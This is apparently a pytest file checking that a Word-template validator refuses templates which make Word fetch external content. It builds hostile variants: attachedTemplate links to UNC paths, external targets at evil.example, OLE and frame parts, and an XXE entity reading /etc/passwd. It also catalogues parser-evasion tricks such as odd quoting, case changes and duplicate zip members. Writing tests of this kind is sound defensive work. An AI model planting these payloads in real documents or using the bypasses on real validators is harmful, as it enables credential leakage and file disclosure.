"""Custom templates that make Word fetch something when a document opens: every relationship
part is parsed as XML, so no quoting, spacing, case, namespace prefix, part-name case or
duplicate member hides an external target, an attached template, an OLE object or a frame.

Each variant is the real built-in template plus one relationship part, so nothing else in
it is wrong; the control (the same part, harmless) is accepted.
"""

from __future__ import annotations

import io
import warnings
import zipfile

import pytest

from render.validate import check_template
from tests.doc_templates.template_files import KIND
from tests.doc_templates.template_files import builtin
from tests.doc_templates.template_files import upload
from tests.hostile.test_hostile_uploads import VIETNAMESE

NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
EXTERNAL = "bên ngoài"


def _rels(*relationships: str, head: str = "", prefix: str = "") -> bytes:
    tag = f"{prefix}:" if prefix else ""
    xmlns = f"xmlns:{prefix}" if prefix else "xmlns"
    return (
        f'{head}<{tag}Relationships {xmlns}="{NS}">'
        + "".join(relationships)
        + f"</{tag}Relationships>"
    ).encode()


def _with_members(members: list[tuple[str, bytes]], base: bytes | None = None) -> bytes:
    """The built-in template with ``members`` added (written after its own, in order)."""
    source = zipfile.ZipFile(io.BytesIO(base or builtin()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": on purpose
            for name, data in members:
                target.writestr(name, data)
    return out.getvalue()


def _settings_rels(*relationships: str, **kwargs: str) -> bytes:
    return _with_members([(SETTINGS_RELS, _rels(*relationships, **kwargs))])


UNC = "\\\\host\\share\\mau.dotm"
ATTACHED = f"{OD}/attachedTemplate"
IMAGE = f"{OD}/image"

# name → (template, words the refusal must contain)
VARIANTS = {
    # The original finding: attachedTemplate to a UNC path, TargetMode quoted differently.
    "double-quotes": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{ATTACHED}" Target="{UNC}" TargetMode="External"/>'
        ),
        "attachedTemplate",
    ),
    "single-quotes": (
        lambda: _settings_rels(
            f"<Relationship Id='r1' Type='{ATTACHED}' Target='{UNC}' TargetMode='External'/>"
        ),
        "attachedTemplate",
    ),
    "spaces-around-equals": (
        lambda: _settings_rels(
            f'<Relationship Id = "r1" Type = "{ATTACHED}" Target = "{UNC}"\n'
            '\tTargetMode = "External" />'
        ),
        "attachedTemplate",
    ),
    # TargetMode alone: a harmless type, an internal-looking target.
    "mode-single-quotes": (
        lambda: _settings_rels(
            f"<Relationship Id='r1' Type='{IMAGE}' Target='media/anh.png' TargetMode='External'/>"
        ),
        EXTERNAL,
    ),
    "mode-spaces": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{IMAGE}" Target="media/anh.png" '
            'TargetMode =  " External " />'
        ),
        EXTERNAL,
    ),
    "mode-mixed-case": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{IMAGE}" Target="media/anh.png" TargetMode="eXtErNaL"/>'
        ),
        EXTERNAL,
    ),
    "mode-unknown-value": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{IMAGE}" Target="media/anh.png" TargetMode="Remote"/>'
        ),
        EXTERNAL,
    ),
    # The target alone, without any TargetMode.
    "unc-target": (
        lambda: _settings_rels(f'<Relationship Id="r1" Type="{IMAGE}" Target="{UNC}"/>'),
        EXTERNAL,
    ),
    "unc-target-leading-space": (
        lambda: _settings_rels(f'<Relationship Id="r1" Type="{IMAGE}" Target="  {UNC}"/>'),
        EXTERNAL,
    ),
    "slash-unc-target": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{IMAGE}" Target="//host/share/anh.png"/>'
        ),
        EXTERNAL,
    ),
    "http-url": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{IMAGE}" Target="http://evil.example/anh.png"/>'
        ),
        EXTERNAL,
    ),
    "http-url-upper-case": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{IMAGE}" Target="HTTPS://evil.example/anh.png"/>'
        ),
        EXTERNAL,
    ),
    "file-url": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{IMAGE}" Target="file:///C:/mau/mau.dotm"/>'
        ),
        EXTERNAL,
    ),
    "drive-path": (
        lambda: _settings_rels(f'<Relationship Id="r1" Type="{IMAGE}" Target="C:\\mau\\anh.png"/>'),
        EXTERNAL,
    ),
    "external-hyperlink": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{OD}/hyperlink" Target="https://evil.example/" '
            'TargetMode="External"/>'
        ),
        EXTERNAL,
    ),
    # Types that load something whatever the target.
    "attached-template-internal": (
        lambda: _settings_rels(f'<Relationship Id="r1" Type="{ATTACHED}" Target="mau.dotm"/>'),
        "attachedTemplate",
    ),
    "ole-object": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{OD}/oleObject" Target="embeddings/ole1.bin"/>'
        ),
        "oleObject",
    ),
    "frame": (
        lambda: _settings_rels(f'<Relationship Id="r1" Type="{OD}/frame" Target="khung.html"/>'),
        "frame",
    ),
    "sub-document": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{OD}/subDocument" Target="con.docx"/>'
        ),
        "subDocument",
    ),
    # Ways of hiding the part or the relationship from a text search.
    "namespace-prefix": (
        lambda: _settings_rels(
            f'<pr:Relationship Id="r1" Type="{ATTACHED}" Target="{UNC}" TargetMode="External"/>',
            prefix="pr",
        ),
        "attachedTemplate",
    ),
    "entity-in-rels": (
        lambda: _settings_rels(
            f'<Relationship Id="r1" Type="{IMAGE}" Target="a.png" TargetMode="&e;"/>',
            head='<!DOCTYPE Relationships [<!ENTITY e "External">]>',
        ),
        "DOCTYPE",
    ),
    "part-name-upper-case": (
        lambda: _with_members(
            [
                (
                    "word/_rels/settings.xml.RELS",
                    _rels(
                        f"<Relationship Id='r1' Type='{ATTACHED}' Target='{UNC}' "
                        "TargetMode='External'/>"
                    ),
                )
            ]
        ),
        "attachedTemplate",
    ),
    "duplicate-member": (
        lambda: _with_members(
            [
                (
                    SETTINGS_RELS,
                    _rels(
                        f"<Relationship Id='r1' Type='{ATTACHED}' Target='{UNC}' "
                        "TargetMode='External'/>"
                    ),
                ),
                (SETTINGS_RELS, _rels()),  # the copy a last-wins reader would check
            ]
        ),
        "trùng tên",
    ),
    "doctype-after-a-long-comment": (
        lambda: _with_members(
            [
                (
                    "customXml/item9.xml",
                    b'<?xml version="1.0"?><!--' + b"x" * 10_000 + b"-->"
                    b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>',
                )
            ]
        ),
        "DOCTYPE",
    ),
}


def test_the_control_is_accepted():
    assert check_template(KIND, _settings_rels()).reasons == []


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_relationship_variant_is_refused_with_a_vietnamese_reason(name):
    make, words = VARIANTS[name]
    reasons = check_template(KIND, make()).reasons
    assert len(reasons) == 1, reasons
    assert words in reasons[0] and VIETNAMESE.search(reasons[0]), reasons[0]


@pytest.mark.parametrize("name", ["single-quotes", "mode-spaces", "unc-target", "http-url"])
def test_upload_of_a_bypass_variant_answers_422_and_stores_nothing(
    client, auth, world, snapshot, name
):
    auth.login("admin")
    before = snapshot()
    response = upload(client, VARIANTS[name][0]())
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Mẫu không được chấp nhận" in page and VARIANTS[name][1] in page
    before.assert_intact()
